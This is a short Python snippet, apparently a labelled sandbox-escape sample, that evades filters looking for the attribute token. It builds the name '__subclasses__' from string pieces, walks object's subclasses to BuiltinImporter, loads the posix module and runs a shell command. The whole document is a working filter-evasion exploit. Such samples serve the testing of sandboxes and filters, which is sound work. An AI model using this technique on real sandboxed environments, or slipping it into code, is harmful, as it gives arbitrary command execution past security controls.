# HARM: shell via BuiltinImporter | TRICK: operator.attrgetter with computed name fetches object.__subclasses__ without the attribute token
import operator
N = '__sub' + 'classes__'
for k in operator.attrgetter(N)(object)():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
